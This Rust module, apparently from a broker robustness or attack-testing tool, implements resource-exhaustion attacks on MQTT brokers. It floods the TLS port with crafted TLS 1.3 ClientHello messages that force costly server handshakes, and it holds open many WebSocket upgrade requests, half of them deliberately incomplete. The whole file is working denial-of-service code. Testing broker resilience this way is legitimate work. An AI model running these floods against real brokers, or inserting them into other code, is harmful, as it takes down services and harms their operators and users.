//! Attacks below MQTT: handshakes of TLS and WebSocket, which cost the broker more than who begins them.

use std::io;

use super::connections::Kept;
use crate::{Scene, peer::Peer};

const KEPT: usize = 200;

pub(super) fn tls(scene: &Scene<'_>) -> io::Result<()> {
    let hello = client_hello();
    let mut kept = Kept::new(scene, KEPT, Peer::is_answered);
    for _ in scene.pace(100) {
        let mut peer = Peer::open(scene.target.tls)?;
        let _ = peer.send(&hello);
        kept.add(peer);
    }
    Ok(())
}

pub(super) fn websocket(scene: &Scene<'_>) -> io::Result<()> {
    const UPGRADE: &str = "GET /mqtt HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
        Sec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: mqtt\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";
    let mut kept = Kept::new(scene, KEPT, Peer::is_kept);
    for number in scene.pace(300) {
        let mut peer = Peer::open(scene.target.websocket)?;
        // Every other one lacks its end.
        let len = if number.is_multiple_of(2) { UPGRADE.len() } else { UPGRADE.len() - 2 };
        let _ = peer.send(UPGRADE.as_bytes().get(..len).unwrap_or_default());
        kept.add(peer);
    }
    Ok(())
}

/// A `ClientHello` of TLS 1.3 that a server answers with its certificate and a signature: the work is all the server's.
fn client_hello() -> Vec<u8> {
    // Any 32 bytes are a random number, and a public key of X25519.
    let noise = [0x5a; 32];
    let mut extensions = Vec::new();
    let mut extension = |number: u16, content: &[u8]| {
        extensions.extend(number.to_be_bytes());
        extensions.extend((content.len() as u16).to_be_bytes());
        extensions.extend(content);
    };
    extension(10, &[0, 2, 0, 0x1d]); // Groups: X25519.
    extension(13, &[0, 8, 4, 3, 8, 4, 5, 3, 8, 7]); // Signatures: ECDSA, RSA-PSS, Ed25519.
    extension(43, &[2, 3, 4]); // TLS 1.3.
    extension(51, &[&[0, 36, 0, 0x1d, 0, 32][..], &noise].concat()); // The key.
    let mut hello = vec![3, 3];
    hello.extend(noise);
    hello.extend([0]); // No session.
    hello.extend([0, 4, 0x13, 1, 0x13, 2]); // Cipher suites: AES-GCM.
    hello.extend([1, 0]); // No compression.
    hello.extend((extensions.len() as u16).to_be_bytes());
    hello.extend(extensions);
    let mut handshake = vec![1, 0];
    handshake.extend((hello.len() as u16).to_be_bytes());
    handshake.extend(hello);
    let mut record = vec![0x16, 3, 1];
    record.extend((handshake.len() as u16).to_be_bytes());
    record.extend(handshake);
    record
}
